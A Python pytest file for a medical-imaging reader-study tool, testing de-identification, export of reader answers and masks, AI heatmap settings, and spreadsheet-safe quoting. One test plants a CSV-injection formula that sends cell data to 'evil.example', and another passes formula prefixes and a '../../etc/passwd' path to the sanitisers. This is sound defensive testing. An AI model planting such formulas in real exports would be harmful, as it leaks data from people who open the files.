"""A study made from real files, read by two readers, exported: de-identified cases, masks in place."""

import json

import nibabel as nib
import numpy as np
import pandas as pd
import pydicom
import pytest

from core.io import load_volume
from core.types import to_display
from db.migrate import upgrade
from db.models import Arm, Role
from db.repository import create_account, next_case, reading_list, save_read
from db.session import make_engine, make_session_factory, session_scope
from workflows.studies import create_study_from_files, export_study
from tests.study_helpers import two_case_study


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_a_study_from_files_exports_answers_summary_and_masks_on_the_scans_grid(tmp_path):
    # Two cases: a real DICOM (PHI inside) and a small anisotropic NIfTI volume.
    study = two_case_study(tmp_path, "Export check", (Arm.AI, Arm.UNAIDED))
    engine, factory, study_id, cases, ids = study.engine, study.factory, study.study_id, study.cases, study.ids
    assert [c.display_shape for c in cases.values()] == [[128, 128, 1], [5, 6, 3]]
    stored_dicom = pydicom.dcmread(cases["case-001"].scan_path)
    assert str(stored_dicom.PatientName) == "case-001"  # the original name is gone before anything is stored

    # Ann marks display slice 2 of the volume, rows 1-2 and columns 3-4; Bob answers without a mask.
    drawn = np.zeros((5, 6), bool)
    drawn[1:3, 3:5] = True
    from db.models import Reader

    with session_scope(factory) as s:
        ann, bob = s.get(Reader, ids[1]), s.get(Reader, ids[2])
        for case, _ in reading_list(s, ann, study_id):
            masks = {2: drawn} if case.name == "case-002" else None
            save_read(s, ann, case.id, expected_version=0, masks=masks, seconds=20.0,
                      answers={"realism": 4, "heatmap_useful": 5, "artifact_present": True, "actionable": 4,
                               "comment": FORMULA})
        while (case := next_case(s, bob, study_id)) is not None:
            save_read(s, bob, case.id, expected_version=0, seconds=10.0,
                      answers={"realism": 4, "artifact_present": False, "actionable": 3})
    with session_scope(factory) as s:
        paths = export_study(s, s.get(Reader, ids[0]), study_id, tmp_path / "export")

    answers = pd.read_csv(paths["answers"])
    assert len(answers) == 2 * 5 + 2 * 3 and set(answers["reader"]) == {"ann", "bob"}
    # a reader's comment that a spreadsheet would run (OWASP CSV injection) is exported as text
    assert answers.loc[answers["question"] == "comment", "text"].tolist() == ["'" + FORMULA] * 2
    assert FORMULA not in paths["answers"].read_text().replace("'" + FORMULA, "")
    summary = json.loads(paths["summary"].read_text())
    assert summary["questions"]["realism"]["mean"] == 4.0
    assert summary["agreement"]["realism"]["all"]["cases_rated_by_all"] == 2  # one group: readers of either arm
    readings = pd.read_csv(paths["readings"])  # the tidy table: one row per reading, a column per question
    assert len(readings) == 4 and set(readings.columns) >= {"case", "reader", "arm", "session", "seconds", "realism",
                                                             "artifact_present", "actionable", "heatmap_useful"}
    assert readings.set_index(["reader", "case"]).loc[("bob", "case-002"), "actionable"] == 3
    assert readings.loc[readings["reader"] == "bob", "heatmap_useful"].isna().all()  # never asked in bob's arm
    assert summary["heatmap_useful_mean_ci"]["mean"] == 5.0
    assert summary["reading_time"]["ann"]["total_seconds"] == 40.0
    mask = nib.load(paths["mask:case-002:ann"])
    volume = load_volume(cases["case-002"].scan_path)
    assert mask.shape == (6, 5, 3) and np.allclose(mask.affine, volume.affine)  # the NIfTI case's own grid
    voxels = np.asarray(mask.dataobj).astype(bool)
    assert voxels.sum() == drawn.sum() and not voxels[..., [0, 1]].any()
    assert np.array_equal(to_display(voxels[..., 2]), drawn)  # the drawn pixels, back on the scan's grid
    assert "mask:case-001:ann" not in paths and not any(k.startswith("mask:") and "bob" in k for k in paths)
    engine.dispose()


def test_a_case_keeps_the_tau_profile_and_slice_flags_its_ai_heatmap_was_scored_with(tmp_path):
    """The AI arm's mask is the one mask rule at the case's own tau and flags, not a tau read later."""
    from core.detectors.head import HeadConfig, HeadDetector, build_head
    from core.head_scoring import HeadCalibration, HeadScorer
    from core.masks import unsafe_mask
    from workflows.studies import case_ai_settings, safegen_mask

    data = np.zeros((40, 44, 3), np.float32)
    data[8:32, 8:36, :] = 100.0  # a box of "tissue" on every slice
    nifti = tmp_path / "vol.nii.gz"
    nib.save(nib.Nifti1Image(data, np.eye(4)), nifti)
    config = HeadConfig(inputs=("image",), channels=(4, 8), strides=(2,), num_res_units=0)
    scorer = HeadScorer(HeadDetector(build_head(config), config), None,
                        HeadCalibration(np.linspace(0.0, 1.0, 999), score_window=1), tau=0.5)
    engine = make_engine(f"sqlite:///{tmp_path / 'study.db'}")
    upgrade(engine)
    factory = make_session_factory(engine)
    with session_scope(factory) as s:
        admin = create_account(s, "admin", "admin-pass-1", Role.ADMIN)
        ann = create_account(s, "ann", "ann-password")
        study = create_study_from_files(s, admin, "AI settings", [nifti], {ann.id: Arm.AI}, scorer=scorer,
                                        studies_dir=tmp_path / "studies")
        (case,) = study.cases
        tau, flags = case_ai_settings(case, tau=99.0)  # the stored tau wins over the caller's
        heatmap = np.load(case.ai_heatmap_path)
        profile = case.ai_profile
    expected = scorer.score_volume(load_volume(nifti))
    assert tau == 0.5 and profile == "mri_t1"
    assert flags.tolist() == expected.flags_at(0.5).tolist()
    volume = load_volume(nifti)
    reference = safegen_mask(volume, heatmap, tau, flags)
    assert np.array_equal(reference, volume.display_slices_of(unsafe_mask(heatmap, 0.5, flags)).astype(bool))
    assert np.array_equal(reference, volume.display_slices_of(expected.mask).astype(bool))
    engine.dispose()


def test_spreadsheet_safe_quotes_formulas_and_leaves_numbers_and_text():
    from core.export import safe_file_stem, spreadsheet_safe

    frame = pd.DataFrame({"text": ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "-0.5", "plain", None],
                          "number": [-1.0, 2, 3, 4, 5, 6, 7, 8], "=name": [""] * 8})
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist()[:7] == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "-0.5", "plain"]
    assert pd.isna(safe["text"].iloc[7])
    assert safe["number"].tolist() == frame["number"].tolist() and list(safe.columns) == ["text", "number", "'=name"]
    assert frame["text"][0] == "=1+1"  # the caller's table is not changed
    assert [safe_file_stem(n) for n in ("case-001_ann", "../../etc/passwd", "a/b c", "")] == [
        "case-001_ann", "_.._etc_passwd", "a_b_c", "_"]


def test_a_refused_study_from_files_leaves_no_case_file_behind(tmp_path):
    from db.repository import StudyError

    good = tmp_path / "good.nii.gz"
    nib.save(nib.Nifti1Image(np.random.default_rng(0).uniform(0, 100, (6, 5, 3)).astype(np.float32), np.eye(4)), good)
    bad = tmp_path / "bad.nii.gz"
    bad.write_bytes(b"not a nifti at all")
    engine = make_engine(f"sqlite:///{tmp_path / 'study.db'}")
    upgrade(engine)
    factory = make_session_factory(engine)
    studies = tmp_path / "studies"
    with session_scope(factory) as s:
        admin = create_account(s, "admin", "admin-pass-1", Role.ADMIN)
        ann = create_account(s, "ann", "ann-password")
        with pytest.raises(ValueError, match="bad.nii.gz is not a NIfTI"):  # the second file is refused after the first is stored
            create_study_from_files(s, admin, "Half", [good, bad], {ann.id: Arm.AI}, studies_dir=studies)
        with pytest.raises(StudyError, match="only an admin"):  # refused before anything is written
            create_study_from_files(s, ann, "Mine", [good], {ann.id: Arm.AI}, studies_dir=studies)
    assert not studies.exists() or not any(studies.rglob("*"))
    engine.dispose()
